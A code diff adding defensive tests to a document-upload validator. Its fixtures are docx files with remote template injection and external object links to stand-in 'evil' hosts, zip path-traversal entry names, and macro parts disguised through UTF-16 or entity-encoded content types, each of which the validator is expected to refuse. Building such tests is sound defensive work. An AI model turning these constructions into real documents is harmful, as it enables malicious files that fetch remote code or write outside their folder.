@@ -110,6 +110,12 @@ def twice() -> bytes:
     return saved(write)
 
 
+def relation(kind: str, target: str) -> bytes:
+    """A part that points at something outside of its package."""
+    of = f"<Relationship Id='r' Type='http://a/{kind}' Target='{target}' TargetMode='External'/>"
+    return f"<Relationships>{of}</Relationships>".encode()
+
+
 REFUSED = {
     "empty": b"",
     "large": bytes(5_000_001),
@@ -117,6 +123,14 @@ REFUSED = {
     "packed": packed({"a.txt": b"a"}),
     "macros": packed(
         {"word/document.xml": b"<a/>", "[Content_Types].xml": TYPES % b"macroEnabled"}
+    ),
+    "outside": packed(
+        {
+            "word/document.xml": b"<a/>",
+            "word/_rels/settings.xml.rels": relation(
+                "attachedTemplate", "&#104;ttp://evil/a.dotm"
+            ),
+        }
     ),
     "password": compound("Root Entry", "EncryptedPackage"),
     "bomb": bomb(),
@@ -144,6 +158,30 @@ def test_given_a_content_that_is_not_taken_then_field_fault_and_remedy_are_said(
         (b"Rar!\x1a\x07\0", "packed"),
         (b"\x1f\x8b\x08" + bytes(20), "packed"),
         (twice(), "broken"),
+        *(
+            (packed({"word/document.xml": b"<a/>", name: b"evil"}), "broken")
+            for name in ("../evil.txt", "/tmp/evil.txt", "a\\..\\b", "c:evil", "WORD/document.xml")
+        ),
+        *(
+            (packed({"word/document.xml": b"<a/>", name: part}), "macros")
+            for name, part in (
+                ("[Content_Types].xml", (TYPES % b"macroEnabled").decode().encode("utf-16")),
+                ("[content_types].xml", TYPES % b"macro&#69;nabled"),
+                ("word/_rels/document.xml.rels", relation("vbaProject", "harmless.bin")),
+                ("word/vbaProject.bin", b"macro"),
+            )
+        ),
+        *(
+            (
+                packed({"word/document.xml": b"<a/>", "word/_rels/a.xml.rels": relation(*of)}),
+                "outside",
+            )
+            for of in (
+                ("oleObject", r"\\evil\a"),
+                ("frame", "file://evil/a"),
+                ("subDocument", "https://evil/a"),
+            )
+        ),
         (packed({"word/document.xml": b"<a/>", "xl/workbook.xml": b"<a/>"}), "two-kinds"),
         (compound("Root Entry", "Something"), "kind"),
         (b"\xff\xd8\xff\xe0 no picture", "broken"),
@@ -159,3 +197,15 @@ def test_given_another_such_content_then_it_is_refused_too(
     with pytest.raises(FileRefused) as refused:
         receiver.received("附件.docx", io.BytesIO(content))
     assert refused.value.why == why
+
+
+def test_given_links_and_a_template_of_the_writer_s_own_disk_then_a_paper_is_taken(
+    tmp_path: Path,
+) -> None:
+    """Word itself writes both."""
+    links = relation("hyperlink", "https://example.org/") + relation(
+        "attachedTemplate", "file:///C:\\Users\\x\\a.dotm"
+    )
+    content = packed({"word/document.xml": b"<a/>", "word/_rels/a.xml.rels": links})
+    (tmp_path / "file").write_bytes(content)
+    assert kind_of(tmp_path / "file", "docx") == "docx"
